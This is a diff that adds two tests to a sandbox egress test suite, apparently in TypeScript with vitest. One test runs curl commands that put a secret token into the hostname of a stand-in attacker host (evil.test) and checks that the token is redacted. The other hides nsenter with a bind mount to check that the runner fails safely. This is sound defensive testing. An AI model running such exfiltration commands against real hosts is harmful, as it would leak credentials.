@@ -2,11 +2,12 @@
  * What leaves the sandbox: with the programs people use, and with those that look for a way round.
  */
 import { once } from "node:events";
-import { existsSync } from "node:fs";
+import { existsSync, writeFileSync } from "node:fs";
 import { createServer, type Server } from "node:net";
+import { join } from "node:path";
 import { afterAll, beforeAll, describe, expect, test } from "vitest";
 import { claimFor } from "./support/gateway.ts";
-import { execute } from "./support/host.ts";
+import { execute, runnerPrograms } from "./support/host.ts";
 import { makeRegistries } from "./support/registries.ts";
 import { allowing, publicAddress, TestInternet } from "./support/test-internet.ts";
 
@@ -121,6 +122,15 @@ describe("NET-2 an allow-list", options, () => {
       expect(attempt.durationMs).toBeLessThan(1_000);
     }
     expect(internet.dns.asked).not.toContain("other.test");
+  });
+
+  test("and keeps secrets out of the log, whoever asks for one as a host", async () => {
+    const secrets = [{ key: "TOKEN", value: "Sk-live-0123456789abcdef" }];
+    const script = "curl -s http://$TOKEN.evil.test/; curl -s https://$TOKEN.evil.test/; exit 1";
+    const { gateway } = await run(script, { ...claimed, secrets });
+    const host = "[redacted:TOKEN].evil.test";
+    expect(gateway.egress).toMatchObject([{ host }, { host }]);
+    expect(gateway.received.join("").toLowerCase()).not.toContain("sk-live-0123456789abcdef");
   });
 
   test("EXE-6 F8 leads nowhere inside, through redirects and rebinding neither", async () => {
@@ -238,6 +248,17 @@ except OSError as e: print("refused")'`;
     );
     expect(gateway.settled?.output).toMatch(/^refused\n0\n.*Couldn't connect|Failed to connect/);
     expect(gateway.egress).toEqual([]);
+  });
+
+  test("F6 isn't opened half: without its door nothing is run", async () => {
+    const folder = await runnerPrograms();
+    const program = join(folder, "without-nsenter.cjs");
+    const hide = 'execFileSync("mount", ["--bind", "/dev/null", "/usr/bin/nsenter"])';
+    writeFileSync(program, `require("node:child_process").${hide};\nrequire("./launcher.cjs");\n`);
+    const { environment } = internet;
+    const { gateway } = await execute(claimFor("echo ran", claimed), "A", { program, environment });
+    expect(gateway.settled).toMatchObject({ outcome: "failed", reason: "runner_error" });
+    expect(gateway.settled?.output).not.toContain("ran\n");
   });
 
   test("is the same in mode B, and of the door nothing is left", async () => {
